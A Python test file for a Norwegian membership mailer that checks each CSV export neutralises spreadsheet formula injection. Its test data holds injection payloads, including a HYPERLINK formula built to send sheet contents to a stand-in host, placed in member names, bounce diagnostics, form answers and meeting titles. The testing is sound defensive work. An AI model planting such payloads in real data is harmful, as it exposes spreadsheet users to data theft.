"""Every CSV the program writes goes through one writer, and no cell from outside runs in Excel.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
and LibreOffice (`=HYPERLINK("http://x"&A1,"x")` sends the sheet away when clicked). Each export
is made through the real command line with such a cell arriving from outside: a bounce's
diagnostic, a member's name or chapter, a consultation answer, a meeting's title.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import stat
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from bounce_helpers import copy_to, first_newsletter_sent, import_bytes, returned
from conftest import base_env, mailer, small_project
from consultation_project import ID, form_link, make_project, send_consultation
from webapp import SECRET, start_web

from mailer.exports import write_csv

FORMULAS = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def cells(path: Path) -> list[list[str]]:
    """The file as Excel in Norway opens it: UTF-8 with a BOM, `;` between cells."""
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads æøå"
    return list(csv.reader(data.decode("utf-8-sig").splitlines(), delimiter=";"))


def assert_nothing_runs(path: Path) -> None:
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    for row in cells(path):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_writer_neutralises_every_formula_start_and_keeps_the_text(tmp_path):
    out = tmp_path / "ut.csv"
    write_csv(out, ["felt"], [[f] for f in FORMULAS])
    data = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(data.splitlines(keepends=True), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


BOUNCE_MEMBERS = """\
1,"=HYPERLINK(""http://x""&A1,""x"")",Ødegård,ase@example.org,Ås,,medlem,2020-01-01,nb
3,Kari,Styre,kari@example.com,Asker,,medlem,2019-01-01,nb
"""


def test_bounces_csv_neutralises_a_diagnostic_and_a_member_s_name(tmp_path, smtp):
    root, env = first_newsletter_sent(tmp_path, smtp, BOUNCE_MEMBERS)
    real = returned("postfix-user-unknown.eml", copy_to(smtp, "ase@example.org"))
    real = re.sub(
        rb"Diagnostic-Code: smtp; 550[^\n]*\n[^\n]*\n", b"Diagnostic-Code: smtp; @SUM(A1:A9)\n", real
    )
    assert "1 hard bounces" in import_bytes(root, env, real).out
    forged = (
        returned("postfix-user-unknown.eml", None)
        .replace(b"ase@example.org", b"kari@example.com")
        .replace(b"<20261203170211", b"<forged")
    )
    forged = re.sub(rb"Diagnostic-Code: smtp; 550[^\n]*\n[^\n]*\n", b"Diagnostic-Code: smtp; -1+1\n", forged)
    assert "1 unverified" in import_bytes(root, env, forged, "forged.eml").out
    out = tmp_path / "bounces.csv"
    assert mailer(root, "bounces", "--csv", str(out), env=env).code == 0
    rows = {r[2]: r for r in cells(out)[1:]}
    assert rows["ase@example.org"][1] == '\'=HYPERLINK("http://x"&A1,"x") Ødegård'
    assert rows["ase@example.org"][5] == "'@SUM(A1:A9)"
    assert rows["kari@example.com"][5] == "'-1+1"
    assert_nothing_runs(out)


def test_consultation_export_neutralises_an_answer(tmp_path, smtp):
    env = base_env(MAILER_SECRET=SECRET, **smtp.env())
    project = make_project(tmp_path / "fylke")
    send_consultation(project, env)
    [ase] = [r for r in smtp.received if r.rcpt_tos == ["ase@example.org"]]
    server = start_web(project, env)
    try:
        with server.client() as client:
            link = server.local(form_link(ase))
            form = dict(
                re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', client.get(link).text)
            )
            form.update({"q.saker": FORMULAS[0], "q.fylkessak": "Veier"})
            assert client.post(link, data=form).status_code == 200
    finally:
        server.stop()
    out = tmp_path / "svar.csv"
    result = mailer(project, "consultation", "export", ID, "--out", str(out), env=env)
    assert result.code == 0, result.err
    [answered] = [r for r in cells(out)[1:] if r[1] == "ja"]
    assert answered[4] == "'" + FORMULAS[0]
    assert_nothing_runs(out)


REPORT_MEMBERS = """\
1,"@SUM(A1:A9)",Leder,ase@example.org,Ås,"=HYPERLINK(""http://x""&A1,""x"")",lokallagsleder,2020-01-01,nb
2,Per,Hansen,per@example.org,Asker,Asker Senterparti,medlem,2020-01-01,nb
"""


def test_report_csv_neutralises_a_chapter_and_its_leader_s_name(tmp_path):
    root = small_project(tmp_path / "fylke", REPORT_MEMBERS)
    out = tmp_path / "lokallag.csv"
    result = mailer(root, "report", "chapters", "--csv", str(out))
    assert result.code == 0, result.err
    rows = cells(out)
    assert rows[0][0] == "tabell" and "Lokallag" in {r[0] for r in rows[1:]}
    flat = [c for r in rows for c in r]
    assert "'" + FORMULAS[0] in flat and "'@SUM(A1:A9) Leder" in flat
    assert_nothing_runs(out)


def test_attendance_csv_neutralises_a_meeting_title(tmp_path, smtp):
    today = dt.datetime.now(ZoneInfo("Europe/Oslo")).date()
    day = today + dt.timedelta(days=3)
    series = f"""\
  morgenmote:
    kind: invitation
    template: invitation
    audience: tillitsvalgte
    subject: "Morgenmøte"
    meeting:
      title: "+1 Morgenmøte"
      location: Digitalt
      time: "08:00"
      duration: 45m
      attendance_goal: 3
      dates: [{day.isoformat()}]
"""
    members = "1,Åse,Ødegård,ase@example.org,Ås,Ås,tillitsvalgt,2020-01-01,nb\n"
    root = small_project(tmp_path / "fylke", members, series)
    env = base_env(**smtp.env())
    assert mailer(root, "send", f"morgenmote@{day.isoformat()}", env=env).code == 0
    out = tmp_path / "oppmote.csv"
    result = mailer(root, "attendance", "--csv", str(out), env=env)
    assert result.code == 0, result.err
    [header, row] = cells(out)
    assert header[:4] == ["møteserie", "møte", "dato", "invitert"]
    assert row[:4] == ["morgenmote", "'+1 Morgenmøte", day.isoformat(), "1"]
    assert_nothing_runs(out)


@pytest.mark.parametrize("command", [["report", "mailings"], ["attendance"], ["bounces"]])
def test_a_csv_path_in_a_folder_that_does_not_exist_is_one_line(tmp_path, command):
    root = small_project(tmp_path / "fylke", REPORT_MEMBERS)
    target = tmp_path / "mangler" / "ut.csv"
    result = mailer(root, *command, "--csv", str(target))
    assert result.code == 1 and "Traceback" not in result.err
    assert result.err.strip() == (
        f"error: --csv {target}: the folder {target.parent} does not exist; create it or write elsewhere"
    )
